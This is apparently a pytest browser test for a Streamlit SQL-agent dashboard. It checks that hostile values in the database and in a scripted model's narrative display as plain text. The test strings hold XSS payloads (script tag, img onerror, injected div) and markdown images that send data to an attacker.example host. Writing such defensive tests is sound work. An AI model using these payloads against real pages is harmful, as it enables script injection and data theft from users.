"""Hostile values in a real browser: the dashboard shows them as text and runs none of them.

A database planted with the hostile corpus is served by ``streamlit run``; the scripted model
writes SQL over the markup values (so they fill the table and label the chart) and a
narrative that repeats them and adds images of its own. In headless Chromium no script
runs, no element is injected, no request leaves for the attacker's host, and the markup
reads as the characters it is made of.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hostile_corpus import EXFIL_URL, SECRET_TABLE, planted_duckdb
from test_ui_browser import (
    APP,
    ARTIFACTS,
    CHROMIUM_ARGS,
    _free_port,
    _wait_healthy,
    chromium,  # noqa: F401  (the fixture)
)

from sqlagent.testing import FakeOpenAIServer

pytestmark = pytest.mark.browser

QUESTION = "Total amount per note body for <b>markup</b> notes? ![q](https://attacker.example/q)"
SQL = (
    "SELECT body, sum(amount) + 10 AS total FROM notes WHERE category = 'markup' "
    "GROUP BY body ORDER BY body"
)
INJECTED = '<div id="injected">injected</div>'
NARRATIVE = (
    'The notes read <b>bold</b><i>italic</i><div id="injected">injected</div> and '
    "<img src=x onerror=\"window.__pwned=1\"> and <script>document.title='PWNED';"
    f"window.__pwned=1</script>. ![img]({EXFIL_URL}/pixel.png) ![x]({EXFIL_URL}?d=card) "
    f"[click me]({EXFIL_URL}) $\\LaTeX$ :red[red text]"
)


@pytest.fixture()
def hostile_app(chromium: str, tmp_path: Path) -> Iterator[tuple[str, FakeOpenAIServer]]:  # noqa: F811
    db = tmp_path / "hostile.duckdb"
    planted_duckdb(str(db))
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"denied_tables: [{SECRET_TABLE}]\n", encoding="utf-8")
    with FakeOpenAIServer([f"```sql\n{SQL}\n```", NARRATIVE]) as fake:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "SQLAGENT_"))}
        env.update(
            OPENAI_BASE_URL=fake.base_url,
            SQLAGENT_MODEL="fake-model",
            SQLAGENT_HOME=str(tmp_path / "home"),
            SQLAGENT_DB=str(db),
            SQLAGENT_POLICY=str(policy),
            SQLAGENT_KNOWLEDGE=str(tmp_path / "empty.knowledge.yaml"),
        )
        port = _free_port()
        log = tmp_path / "streamlit.log"
        with log.open("wb") as out:
            proc = subprocess.Popen(
                [sys.executable, "-m", "streamlit", "run", str(APP),
                 "--server.port", str(port), "--server.address", "127.0.0.1",
                 "--server.headless", "true", "--server.fileWatcherType", "none",
                 "--browser.gatherUsageStats", "false"],
                env=env, stdout=out, stderr=subprocess.STDOUT, cwd=tmp_path,
            )  # fmt: skip
            try:
                _wait_healthy(port, proc, log)
                yield f"http://127.0.0.1:{port}/", fake
            finally:
                proc.terminate()
                try:
                    proc.wait(timeout=10)
                except subprocess.TimeoutExpired:
                    proc.kill()
                    proc.wait(timeout=10)


def test_hostile_values_show_as_text_and_run_nothing(
    chromium: str,  # noqa: F811
    hostile_app: tuple[str, FakeOpenAIServer],
) -> None:
    from playwright import sync_api

    url, fake = hostile_app
    outbound: list[str] = []
    dialogs: list[str] = []
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1600})
            page.set_default_timeout(60_000)
            page.on("request", lambda r: outbound.append(r.url))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(url)
            box = page.locator('[data-testid="stChatInputTextArea"]')
            box.wait_for()
            box.fill(QUESTION)
            box.press("Enter")
            # The narrative's own words, with the markup it repeats shown literally.
            shown = page.get_by_text(INJECTED, exact=False).first
            shown.wait_for()
            page.locator('[data-testid="stVegaLiteChart"]').first.wait_for()
            page.wait_for_timeout(1500)  # let images, scripts and the chart do what they would
            body = page.locator("body").inner_text()
            cells = page.locator('[data-testid="stDataFrame"] [role="gridcell"]').all_inner_texts()
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "ui-hostile.png"), full_page=True)
            pwned = page.evaluate("() => window.__pwned")
            title = page.title()
            injected = page.locator("#injected").count()
            images = page.evaluate(
                "() => [...document.images].map(i => i.getAttribute('src') || '')"
            )
            links = page.evaluate(
                "() => [...document.querySelectorAll('a[href]')].map(a => a.href)"
            )
            frames = page.locator("iframe[src^='javascript']").count()
            bold_from_data = page.locator("[data-testid='stChatMessage'] b").count()
        finally:
            browser.close()

    assert pwned is None and "PWNED" not in title and dialogs == []
    assert injected == 0 and frames == 0 and bold_from_data == 0
    assert not [s for s in images if "attacker" in s or s == "x"], images
    assert not [h for h in links if "attacker" in h or h.startswith("javascript:")], links
    assert not [u for u in outbound if "attacker.example" in u], outbound
    # Shown as the characters they are made of: the narrative's repeated markup, the
    # question's tags, and the values in the table.
    assert '<img src=x onerror="window.__pwned=1">' in body
    assert "<b>markup</b>" in body
    assert "$\\LaTeX$" in body or "$LaTeX$" in body
    assert any("<script>" in c for c in cells), cells
    # The image the model added pointing elsewhere never reached the page at all.
    assert "?d=card" not in body
    assert len(fake.requests) == 2
